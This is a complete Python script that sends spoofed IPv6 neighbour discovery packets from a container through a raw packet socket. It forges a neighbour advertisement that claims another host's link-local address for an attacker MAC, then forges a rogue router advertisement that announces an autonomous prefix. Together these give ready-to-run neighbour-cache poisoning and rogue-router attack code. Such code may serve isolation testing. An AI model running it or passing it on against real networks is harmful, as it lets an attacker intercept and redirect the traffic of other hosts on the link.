"""Lie in IPv6 neighbour discovery from a container.

Usage: spoof_neighbour_discovery.py IFNAME MAC SRC_LL VICTIM_LL PREFIX

Sends two ICMPv6 packets to all nodes (ff02::1, from the link-local
address SRC_LL, Ethernet source MAC, hop limit 255, correct checksums) on
IFNAME through a packet socket:
  1. a neighbour advertisement with the override flag for VICTIM_LL (another
     host's address), whose target link-layer address option is MAC;
  2. a router advertisement (lifetime 1800 s) with an autonomous on-link
     prefix PREFIX/64 and MAC as its source link-layer address.
"""

import socket
import struct
import sys


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF


def icmp6(mac, src, dst, body):
    """An Ethernet frame to all nodes carrying the ICMPv6 message `body`."""
    src, dst = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
    pseudo = src + dst + struct.pack("!I3xB", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    ip = struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + src + dst
    return bytes.fromhex("333300000001") + mac + bytes.fromhex("86dd") + ip + body


ifname, mac_text, src_ll, victim_ll, prefix = sys.argv[1:6]
mac = bytes.fromhex(mac_text.replace(":", ""))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifname, 0))
na = (
    struct.pack("!BBHI", 136, 0, 0, 0x20000000)
    + socket.inet_pton(socket.AF_INET6, victim_ll)
    + bytes([2, 1])
    + mac
)
s.send(icmp6(mac, src_ll, "ff02::1", na))
prefix_option = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 1800, 0) + socket.inet_pton(socket.AF_INET6, prefix)
ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix_option + bytes([1, 1]) + mac
s.send(icmp6(mac, src_ll, "ff02::1", ra))
